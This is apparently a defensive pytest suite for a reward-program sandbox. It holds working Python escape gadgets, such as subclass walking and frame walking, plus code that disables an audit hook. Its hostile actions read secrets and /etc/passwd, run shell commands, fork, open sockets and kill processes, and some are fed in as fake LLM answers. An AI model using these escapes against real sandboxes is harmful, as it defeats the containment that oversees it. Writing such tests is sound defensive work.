"""The reward sandbox against determined programs (issue 42): every route out that was found, each in several
disguises, run in the real worker with the static check switched off (as if a program had got past it), so that
the kernel's guards alone must hold: no file read outside what the worker is given, no file written, no socket, no
process, no signal to another process, the parent alive. The same programs are also all refused by the static
check, and a sample of them arriving as an LLM's answers never runs."""

from __future__ import annotations

import itertools
import os
import secrets
import signal
import socket
import stat
import subprocess
import threading
import time

import pytest

from iarcs_env.datasets.procedural import generate_layouts
from iarcs_env.scene import SceneBatch
from rewards.confine import WEAK_SANDBOX_ENV
from rewards.sandbox import RewardSandbox, check_program

pytestmark = pytest.mark.skipif(os.environ.get(WEAK_SANDBOX_ENV) == "1",
                                reason=f"{WEAK_SANDBOX_ENV}=1: this machine's kernel cannot confine the worker")

# How a program gets the real `os` and builtins: a dict of some module's globals.
GADGETS = {
    # a `match` class pattern reads any attribute: an error's class, then (with `object` as the pattern's class)
    # the module proxy's class, its __getattr__, that one's globals
    "match_pattern": """
def grab():
    try:
        1 / 0
    except Exception as err:
        error = err
    match error:
        case Exception(__class__=cls):
            base = cls.__mro__[-1]
    match torch:
        case base(__class__=proxy):
            pass
    match proxy:
        case base(__getattr__=ga):
            pass
    match ga:
        case base(__globals__=g):
            return g
""",
    # a torch function's globals hold the real torch module, and torch holds os
    "function_globals": """
def grab():
    g = dict(torch.nn.functional.relu.__globals__)
    g["os"] = g["torch"].os
    return g
""",
    # a traceback's frames walk up into the worker's own module
    "frame_walk": """
def grab():
    try:
        1 / 0
    except ZeroDivisionError as err:
        frame = err.__traceback__.tb_frame
    while frame is not None:
        if "os" in frame.f_globals and "pickle" in frame.f_globals:
            return frame.f_globals
        frame = frame.f_back
""",
    # object's subclasses include os._wrap_close, whose __init__ sees the os module's globals
    "subclass_walk": """
def grab():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            g = dict(cls.__init__.__globals__)
            g["os"] = g["sys"].modules["os"]
            return g
""",
}

# Then it switches the Python-level guard off (the audit hook's lists emptied, its "a program runs" flag cleared,
# found through the garbage collector), so that only the kernel's guards stand in the way.
TOOLS = """
def tools():
    g = grab()
    b = g["__builtins__"]
    b = b if isinstance(b, dict) else b.__dict__
    imp = b["__import__"]
    for f in imp("gc").get_objects():
        if isinstance(f, tools.__class__) and f.__qualname__ == "_audit_hook_factory.<locals>.hook":
            for cell in f.__closure__:
                if isinstance(cell.cell_contents, tuple):
                    cell.cell_contents = ()
                elif isinstance(cell.cell_contents, dict):
                    cell.cell_contents["running"] = False
    return g["os"], b, imp
"""

# What it then tries; each raises an exception saying ESCAPED (MARK) only when the operation went through.
ACTIONS = {
    "read_open": 'raise Exception(MARK + b["open"](SECRET).read())',
    "read_os": 'raise Exception(MARK + os.read(os.open(SECRET, os.O_RDONLY), 99).decode())',
    "read_storage": 'raise Exception(MARK + bytes(list(torch.UntypedStorage.from_file(SECRET, False, 32))).decode())',
    "read_numpy": 'raise Exception(MARK + imp("numpy").fromfile(SECRET, dtype="uint8").tobytes().decode())',
    "read_ctypes": 'c = imp("ctypes").CDLL(None)\n    if c.open(SECRET.encode(), 0) >= 0: raise Exception(MARK)',
    "read_parent_environ": 'raise Exception(MARK + b["open"]("/proc/%d/environ" % os.getppid()).read())',
    "read_own_environ": 'v = os.environ.get("IARCS_HOSTILE_SECRET")\n    if v: raise Exception(MARK + v)',
    "list_dir": 'raise Exception(MARK + str(os.listdir(os.path.dirname(SECRET))))',
    "read_passwd": 'raise Exception(MARK + b["open"]("/etc/passwd").read()[:20])',
    "write_open": 'b["open"](CANARY + "/open.txt", "w").write("x")\n    raise Exception(MARK)',
    "write_os": 'os.open(CANARY + "/os.txt", os.O_CREAT | os.O_WRONLY)\n    raise Exception(MARK)',
    "write_append_secret": 'b["open"](SECRET, "a").write("x")\n    raise Exception(MARK)',
    "write_torch_save": 't = imp("torch")\n    t.save(t.zeros(2), CANARY + "/t.pt")\n    raise Exception(MARK)',
    "write_numpy": 'imp("numpy").zeros(3).tofile(CANARY + "/np.bin")\n    raise Exception(MARK)',
    "write_ctypes": 'c = imp("ctypes").CDLL(None)\n    if c.open((CANARY + "/c.txt").encode(), 0o101, 0o644) >= 0: raise Exception(MARK)',
    "write_dev_shm": 'b["open"]("/dev/shm/iarcs_hostile", "w").write("x")\n    raise Exception(MARK)',
    "mkdir": 'os.mkdir(CANARY + "/dir")\n    raise Exception(MARK)',
    "symlink": 'os.symlink(SECRET, CANARY + "/link")\n    raise Exception(MARK)',
    "hardlink": 'os.link(SECRET, CANARY + "/hard")\n    raise Exception(MARK)',
    "unlink_secret": 'os.unlink(SECRET)\n    raise Exception(MARK)',
    "chmod_secret": 'os.chmod(SECRET, 0o777)\n    raise Exception(MARK)',
    "share_memory": 'imp("torch").nn.Linear(2, 2).share_memory()\n    raise Exception(MARK)',
    "memfd": 'os.memfd_create("x")\n    raise Exception(MARK)',
    "system": 'if os.system("touch " + CANARY + "/system") == 0: raise Exception(MARK)',
    "subprocess": 'imp("subprocess").run(["touch", CANARY + "/sub"])\n    raise Exception(MARK)',
    "fork": 'pid = os.fork()\n    if pid == 0: os._exit(0)\n    raise Exception(MARK)',
    "posix_spawn": 'os.posix_spawn("/bin/true", ["true"], {})\n    raise Exception(MARK)',
    "ctypes_system": 'if imp("ctypes").CDLL(None).system(("touch " + CANARY + "/ct").encode()) == 0: raise Exception(MARK)',
    "socket_tcp": 'imp("socket").create_connection(("127.0.0.1", PORT), 1)\n    raise Exception(MARK)',
    "socket_udp": 'imp("socket").socket(2, 2).sendto(b"x", ("127.0.0.1", PORT))\n    raise Exception(MARK)',
    "ctypes_socket": 'if imp("ctypes").CDLL(None).syscall(41, 2, 1, 0) >= 0: raise Exception(MARK)',
    "kill_victim": 'os.kill(VICTIM, 15)\n    raise Exception(MARK)',
    "kill_parent": 'os.kill(os.getppid(), 0)\n    raise Exception(MARK)',
    "kill_everyone": 'os.kill(-1, 0)\n    raise Exception(MARK)',
    "ctypes_kill": 'if imp("ctypes").CDLL(None).kill(VICTIM, 9) == 0: raise Exception(MARK)',
    "thread_write_later": ('imp("threading").Thread(target=lambda: (imp("time").sleep(0.3), '
                           'b["open"](CANARY + "/thread.txt", "w").write("x")), daemon=True).start()'),
    "alarm_write_later": ('sig = imp("signal")\n    sig.signal(sig.SIGALRM, lambda *a: b["open"](CANARY + "/alarm.txt", '
                          '"w").write("x"))\n    sig.setitimer(sig.ITIMER_REAL, 0.3)'),
}
LATER = ("thread_write_later", "alarm_write_later")


def hostile_program(gadget: str, action: str, when: str, paths: dict) -> str:
    """One program: the gadget, then the action run when the program loads or when reward(scene) is called."""
    constants = 'MARK = "ESC" + "APED "\n' + "".join(f"{k} = {v!r}\n" for k, v in paths.items())  # (a marker
    # that the error messages quoting the program's lines do not contain)
    act = f"\ndef act():\n    os, b, imp = tools()\n    {ACTIONS[action]}\n"
    if when == "load":
        tail = "\nact()\n\ndef reward(scene):\n    return torch.zeros(scene.batch_size)\n"
    else:
        tail = "\ndef reward(scene):\n    act()\n    return torch.zeros(scene.batch_size)\n"
    return constants + GADGETS[gadget] + TOOLS + act + tail


CASES = list(itertools.product(GADGETS, ACTIONS, ("load", "reward")))


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """A secret file, a canary folder, a loopback TCP and UDP listener, a victim process, a secret environment
    variable in the parent; and the sandbox started after them."""
    root = tmp_path_factory.mktemp("hostile")
    token = secrets.token_hex(8)
    secret = root / "secret.txt"
    secret.write_text(token)
    secret.chmod(0o600)
    canary = root / "canary"
    canary.mkdir()
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(16)
    tcp.settimeout(0.2)
    port = tcp.getsockname()[1]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", port))
    udp.settimeout(0.2)
    contacts = []
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            for sock, receive in ((tcp, tcp.accept), (udp, lambda: udp.recvfrom(16))):
                try:
                    contacts.append(receive())
                except (TimeoutError, OSError):
                    pass

    listener = threading.Thread(target=listen, daemon=True)
    listener.start()
    victim = subprocess.Popen(["sleep", "600"])
    old = os.environ.get("IARCS_HOSTILE_SECRET")
    os.environ["IARCS_HOSTILE_SECRET"] = token
    try:
        with RewardSandbox(timeout=10) as box:
            yield {"box": box, "token": token, "secret": secret, "canary": canary, "contacts": contacts,
                   "victim": victim, "paths": {"SECRET": str(secret), "CANARY": str(canary), "PORT": port,
                                               "VICTIM": victim.pid}}
    finally:
        if old is None:
            os.environ.pop("IARCS_HOSTILE_SECRET", None)
        else:
            os.environ["IARCS_HOSTILE_SECRET"] = old
        stop.set()
        listener.join(2)
        tcp.close()
        udp.close()
        victim.kill()
        victim.wait()


def escapes(world, texts) -> list[str]:
    """What got out: the secret or an ESCAPED marker in the texts, files in the canary folder or shared memory, the
    secret changed, contacts on the loopback listeners, the victim dead."""
    out = [f"text: {t[:200]!r}" for t in texts if "ESCAPED" in t or world["token"] in t]
    out += [f"file: {p}" for p in os.listdir(world["canary"])]
    out += [f"/dev/shm/{p}" for p in os.listdir("/dev/shm") if p.startswith("iarcs_hostile")] if os.path.isdir(
        "/dev/shm") else []
    if not world["secret"].exists() or world["secret"].read_text() != world["token"]:
        out.append("the secret file was changed or removed")
    elif stat.S_IMODE(world["secret"].stat().st_mode) != 0o600:
        out.append("the secret file's mode was changed")
    out += [f"contact: {c}" for c in world["contacts"]]
    if world["victim"].poll() is not None:
        out.append("the victim process was killed")
    return out


def test_the_kernel_guards_are_on(world):
    applied = " ".join(world["box"].confinement["applied"])
    assert "landlock" in applied and "seccomp" in applied and not world["box"].confinement["missing"]


def test_no_hostile_program_gets_out(world):
    """Every case runs in the one worker (restarted when a program kills it); none gets anything out."""
    box, found, python_guard = world["box"], {}, 0
    batch = SceneBatch.from_layouts(generate_layouts("bedroom", 2, seed=0))
    for gadget, action, when in CASES:
        result = box._load(hostile_program(gadget, action, when, world["paths"]), check=False)
        texts = [result.message]
        if result.ok:  # loaded: run it on a batch, where `reward` does its work
            scored = box.score(batch)
            texts += [scored.message or "", scored.output or ""]
        # (an alarm set by an earlier program can fire before this one has switched the Python guard off)
        python_guard += any("in the reward sandbox" in t and "alarm.txt" not in t for t in texts)
        got_out = escapes(world, texts)
        if got_out:
            found[(gadget, action, when)] = got_out
    time.sleep(0.6)  # what threads and alarms would do later, and the next requests after them
    # (an alarm the last program set may stop the worker during the next request: contained, and restarted)
    assert any(box.load("def reward(scene):\n    return torch.zeros(scene.batch_size)\n").ok for _ in range(3))
    late = escapes(world, [])
    assert not found and not late, (found, late)
    assert python_guard == 0  # the Python-level guard was off: the kernel stopped them all
    assert os.getpid() and world["victim"].poll() is None  # the parent (this process) and the victim are alive
    print(f"\n{len(CASES)} hostile programs ({len(GADGETS)} routes in x {len(ACTIONS)} actions x load/reward): "
          f"0 escapes; worker restarts {box.restarts}")
    assert len(CASES) >= 200


@pytest.mark.parametrize("gadget", GADGETS)
def test_each_route_reaches_the_real_os_with_the_python_guard_off(world, gadget):
    """The routes work: the program holds the real `os` and `open`, the audit hook no longer objects, and the
    refusal it meets comes from the kernel (errno 13 from Landlock), not from Python."""
    action = ('try:\n        b["open"](SECRET)\n    except Exception as err:\n'
              '        raise Exception("REACHED pid " + str(os.getpid()) + ": " + str(err))')
    code = hostile_program(gadget, "read_open", "load", world["paths"]).replace(ACTIONS["read_open"], action)
    message = world["box"]._load(code, check=False).message
    assert "REACHED pid" in message and "[Errno 13] Permission denied" in message, message
    assert "in the reward sandbox" not in message


def test_the_static_check_refuses_them_all(world):
    accepted = [case for case in CASES if not check_program(hostile_program(*case, world["paths"]))]
    assert not accepted


def test_a_hostile_answer_from_an_llm_never_runs(world, tmp_path):
    """Through the real LLM path (litellm against a loopback server): the match-pattern trick that once wrote a file
    during the smoke test, and other routes, are rejected by the static check before reaching the worker."""
    from test_llm_agent import FakeLLMServer, content_of, make
    from rewards.agent import RewardSynthesisError

    server = FakeLLMServer()
    try:
        good = content_of("two_nightstands")
        answers = []
        for gadget, action in [("match_pattern", "write_open"), ("function_globals", "system"),
                               ("frame_walk", "read_open"), ("subclass_walk", "socket_tcp")]:
            code = hostile_program(gadget, action, "load", world["paths"])
            start = good.index("```python") + len("```python\n")
            answers.append({"content": good[:start] + code + good[good.index("```", start):]})
        server.push(*answers)
        agent = make(server, world["box"], max_attempts=len(answers))
        with pytest.raises(RewardSynthesisError) as err:
            agent.synthesize("bedroom", "A bedroom with 2 night tables on either side of the bed")
        assert len(err.value.attempts) == len(answers)
        assert all("static check" in a.problem or "not allowed" in a.problem for a in err.value.attempts)
    finally:
        server.close()
    assert not escapes(world, [str(err.value)])


def test_a_machine_without_the_kernel_guards_is_refused_unless_allowed(monkeypatch):
    """Where Landlock or seccomp is missing the sandbox says so and refuses, unless IARCS_WEAK_SANDBOX=1."""
    import rewards.sandbox as sandbox

    # the worker is another process: a stand-in landlock package first on its PYTHONPATH fails to import
    shim = os.path.join(os.path.dirname(__file__), "fixtures", "no_landlock")
    monkeypatch.setenv("PYTHONPATH", shim + os.pathsep + os.environ.get("PYTHONPATH", ""))
    monkeypatch.delenv(WEAK_SANDBOX_ENV, raising=False)
    with pytest.raises(sandbox.SandboxError, match=r"cannot confine programs on this machine \(landlock: .*"
                                                   r"IARCS_WEAK_SANDBOX=1"):
        RewardSandbox(timeout=10)
    monkeypatch.setenv(WEAK_SANDBOX_ENV, "1")
    with RewardSandbox(timeout=10) as box:
        assert "landlock" in box.confinement["missing"]
        assert box.load("def reward(scene):\n    return torch.zeros(scene.batch_size)\n").ok
